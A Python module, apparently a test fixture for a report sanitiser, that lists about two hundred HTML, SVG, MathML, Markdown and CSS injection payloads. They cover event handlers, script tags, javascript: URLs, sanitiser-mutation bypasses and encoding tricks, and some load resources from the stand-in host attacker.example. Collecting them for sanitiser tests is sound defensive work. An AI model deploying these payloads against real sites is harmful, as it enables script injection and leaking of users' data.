"""Every way known to us to smuggle markup that acts: each calls ``pwn()`` or asks for ``attacker.example``.

Collected from what browsers are known to run (event handlers, URLs, foreign content), from what sanitisers have
missed (mutation of raw text, MathML, SVG, templates, comments), and from the places that a report writes into.
"""

from __future__ import annotations

_HANDLERS = (
    "<img src=x onerror=pwn()>", "<svg onload=pwn()>", "<body onload=pwn()>", "<body onpageshow=pwn()>",
    "<input autofocus onfocus=pwn()>", "<details open ontoggle=pwn()>", "<marquee onstart=pwn()>x</marquee>",
    "<video><source onerror=pwn()></video>", "<audio src=x onerror=pwn()></audio>", "<video src=x onerror=pwn()>",
    "<object data=x onerror=pwn()></object>", "<iframe onload=pwn()></iframe>", "<select autofocus onfocus=pwn()>",
    "<p style='animation:x 1s' onanimationstart=pwn()>x", "<a onmouseover=pwn() onclick=pwn() href=#>x</a>",
    "<div onpointerover=pwn() tabindex=0 onfocus=pwn()>x</div>", "<form onformdata=pwn()><button>x</button></form>",
    "<svg><animate onbegin=pwn() attributeName=x dur=1s></svg>", "<svg><set onbegin=pwn() attributename=x></svg>",
    "<img/src=x/onerror=pwn()>", "<img src=x\nonerror\n=\npwn()>", "<IMG SRC=x OnErRoR=pwn()>", "<img src=x onerror=pwn()//",
    "<img src=`x` onerror=pwn()>", "<image src=x onerror=pwn()>", "<x contenteditable onblur=pwn() onfocus=pwn() autofocus>",
    "<dialog open onclose=pwn()><form method=dialog><button autofocus>x", "<button popovertarget=p>x</button><p popover id=p onbeforetoggle=pwn()>x",
)  # fmt: skip
_SCRIPTS = (
    "<script>pwn()</script>", "<SCRIPT>pwn()</SCRIPT>", "<script/x>pwn()</script/x>", "<script\x00>pwn()</script>",
    "<scr\x00ipt>pwn()</scr\x00ipt>", "<scr<script>ipt>pwn()</scr</script>ipt>", "<<script>pwn()//<</script>",
    "<script src=http://attacker.example/x.js></script>", "<script src=data:,pwn()></script>", "<script type=module>pwn()</script>",
    "<svg><script>pwn()</script></svg>", "<svg><script>&#112;wn()</script>", "<svg><script href=data:,pwn() /></svg>",
    "<math><script>pwn()</script></math>", "<template><script>pwn()</script></template>", "+ADw-script+AD4-pwn()+ADw-/script+AD4-",
    "%3Cscript%3Epwn()%3C/script%3E", "&lt;script&gt;pwn()&lt;/script&gt;", "&amp;lt;script&amp;gt;pwn()&amp;lt;/script&amp;gt;",
    "&#60;script&#62;pwn()&#60;/script&#62;", "＜script＞pwn()＜/script＞", "\u2028<script>pwn()</script>\u2029", "\ufeff<script>pwn()</script>",
    "<script>\u2028pwn()</script>", "¼script¾pwn()¼/script¾", "\x1b$B<script>pwn()</script>",
)  # fmt: skip
_ADDRESSES = (
    "<a href=javascript:pwn()>x</a>", "<a href='java\nscript:pwn()'>x</a>", "<a href=' &#14; javascript:pwn()'>x</a>",
    "<a href=data:text/html,<script>pwn()</script>>x</a>", "<a href=vbscript:pwn()>x</a>", "<form action=javascript:pwn()><input type=submit autofocus>",
    "<button formaction=javascript:pwn()>x</button>", "<iframe src=javascript:parent.pwn()></iframe>", "<iframe srcdoc='<script>parent.pwn()</script>'></iframe>",
    "<embed src=javascript:pwn()>", "<object data='data:text/html,<script>parent.pwn()</script>'></object>", "<base href=http://attacker.example/>",
    "<base href=javascript:/pwn()//>", "<meta http-equiv=refresh content='0;url=javascript:pwn()'>", "<meta http-equiv=refresh content=0;http://attacker.example/>",
    "<link rel=stylesheet href=http://attacker.example/x.css>", "<link rel=prefetch href=http://attacker.example/x>", "<link rel=dns-prefetch href=//attacker.example>",
    "<svg><a xlink:href=javascript:pwn()><text y=9>x</text></a></svg>", "<svg><use href=http://attacker.example/x.svg#x /></svg>",
    "<svg><image href=http://attacker.example/x.png /></svg>", "<math href=javascript:pwn()>x</math>", "<math><mi xlink:href=javascript:pwn()>x</mi></math>",
    "<img src=http://attacker.example/x.png>", "<img srcset='http://attacker.example/x.png 1x'>", "<video poster=//attacker.example/x.png>",
    "<a ping=http://attacker.example/ href=#>x</a>", "<body background=//attacker.example/x.png>", "<table background=//attacker.example/x.png>",
    "<input type=image src=//attacker.example/x.png>", "<track src=//attacker.example/x>", "<portal src=http://attacker.example>", "<fencedframe src=//attacker.example>",
    "[x](javascript:pwn())", "![x](http://attacker.example/x.png)", "<javascript:pwn()>", "<http://attacker.example/>", "[x]: javascript:pwn()", "[x][x]",
    "[x](<javascript:pwn()>)", "![x][x]", "[x](data:text/html,<script>pwn()</script>)",
)  # fmt: skip
_STYLES = (
    "<style>@import 'http://attacker.example/x.css';</style>", "<style>*{background:url(http://attacker.example/x)}</style>",
    "<p style='background:url(http://attacker.example/x)'>x</p>", "<p style=width:expression(pwn())>x</p>", "<style>*{display:none}</style>",
    "<p style='position:fixed;inset:0;z-index:9999'>x", "<style>@font-face{font-family:x;src:url(//attacker.example/x)}*{font-family:x}</style>",
)  # fmt: skip
_MUTATIONS = (
    "<noscript><p title='</noscript><img src=x onerror=pwn()>'>", "<xmp><p title='</xmp><img src=x onerror=pwn()>'>",
    "<textarea><p title='</textarea><img src=x onerror=pwn()>'>", "<title><p title='</title><img src=x onerror=pwn()>'>",
    "<style><p title='</style><img src=x onerror=pwn()>'>", "<iframe><p title='</iframe><img src=x onerror=pwn()>'>",
    "<svg></p><style><a id='</style><img src=x onerror=pwn()>'>", "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=pwn()&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=pwn()>", "<svg><foreignObject><math><mi><style><img src=x onerror=pwn()></style>",
    "<!--><img src=x onerror=pwn()>-->", "<!-- --!><img src=x onerror=pwn()>-->", "<!--[if true]><img src=x onerror=pwn()><![endif]-->",
    "<![CDATA[<img src=x onerror=pwn()>]]>", "<svg><![CDATA[><img src=x onerror=pwn()>]]>", "<?x ><img src=x onerror=pwn()>?>", "<!x ><img src=x onerror=pwn()>",
    "</script><img src=x onerror=pwn()>", "</style><img src=x onerror=pwn()>", "</title><img src=x onerror=pwn()>", "</textarea><img src=x onerror=pwn()>",
    "--><img src=x onerror=pwn()>", "]]><img src=x onerror=pwn()>", "'><img src=x onerror=pwn()>", '"><img src=x onerror=pwn()>', "`><img src=x onerror=pwn()>",
    "' onmouseover=pwn() x='", '" onmouseover=pwn() x="', " onmouseover=pwn() ", "\" autofocus onfocus=pwn() tabindex=0 x=\"", "\\\"><img src=x onerror=pwn()>",
    "</del></ins></li></ol></main></article></div><img src=x onerror=pwn()>", "</code></pre><img src=x onerror=pwn()>", "```\n<img src=x onerror=pwn()>\n```",
    "</td></tr></table><img src=x onerror=pwn()>", "<plaintext>", "<frameset onload=pwn()>", "<table><td><img src=x onerror=pwn()>", "| <img src=x onerror=pwn()> | x |",
    "${pwn()}", "{{constructor.constructor('pwn()')()}}", "');pwn();//", "\\');pwn();//", "</script><script>pwn()</script>", "\\u003cimg src=x onerror=pwn()\\u003e",
)  # fmt: skip
_SEEMING = (
    "\u202e<img src=x onerror=pwn()>\u202c", "\u2066gnihtemos\u2069", "a\u0301\u0316" * 20, "\x1b[2J\x1b]0;pwn\x07", "\x00\x01\x02", "x" * 4_000, "\u200b" * 50,
)  # fmt: skip

INJECTIONS = (*_HANDLERS, *_SCRIPTS, *_ADDRESSES, *_STYLES, *_MUTATIONS, *_SEEMING)
